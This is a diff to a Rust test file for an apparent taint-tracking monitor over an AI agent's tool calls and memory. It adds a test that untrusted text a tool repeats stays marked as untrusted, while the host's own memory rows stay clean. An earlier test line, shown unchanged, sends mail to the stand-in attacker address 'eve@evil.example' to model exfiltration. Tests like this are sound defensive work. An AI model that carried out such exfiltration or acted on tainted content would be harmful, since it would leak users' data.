@@ -4,7 +4,7 @@ use model::{Caller, RawCall, Taint};
 use monitor::{Asked, Refusal};
 use serde_json::{Value, json};
 
-use crate::world::{Gate, Never, PAGE, World, asks, caller, opening, read_page, send_mail};
+use crate::world::{Gate, Gives, Never, PAGE, World, asks, caller, opening, read_page, send_mail};
 
 /// Long enough to be known again, and of no address.
 const LINE: &str = "The harbour is closed on Monday.";
@@ -67,6 +67,23 @@ fn what_a_tainted_session_wrote_taints_who_reads_it_by_its_name_or_its_text() {
     asks(gate.call(&caller("by-an-address", "ann"), &send_mail("eve@evil.example"), ""));
     // Another user has other systems.
     assert!(!taints(&gate, &caller("bobs", "bob"), "notes/a.md", &text));
+}
+
+#[test]
+fn whatever_gives_it_back_and_only_the_host_keeps_its_own_tags() {
+    let world = World::new();
+    let gate = world.open_unsynced();
+    let writer = tainted(&gate, "writer");
+    writes(&gate, &writer, "notes/a.md", LINE);
+    let (recalls, asks_host) = (gate.begin("recalls"), gate.begin("asks-host"));
+    // A tool that is said to repeat the call, and reads: it repeats what was noted.
+    gate.call(&recalls, &("recall", json!({ "topic": "harbour" })), LINE).unwrap();
+    assert!(gate.taint(&recalls).contains(Taint::UNTRUSTED));
+    // A row of the host's memory comes with its tag, or is clean.
+    let query =
+        json!({ "action": "memory_query", "scope": "user", "query": "harbour" }).to_string();
+    gate.monitor.run(&asks_host, &Asked::Message(query.as_bytes()), &Gives(LINE)).unwrap();
+    assert_eq!(gate.taint(&asks_host), Taint::NONE);
 }
 
 #[test]
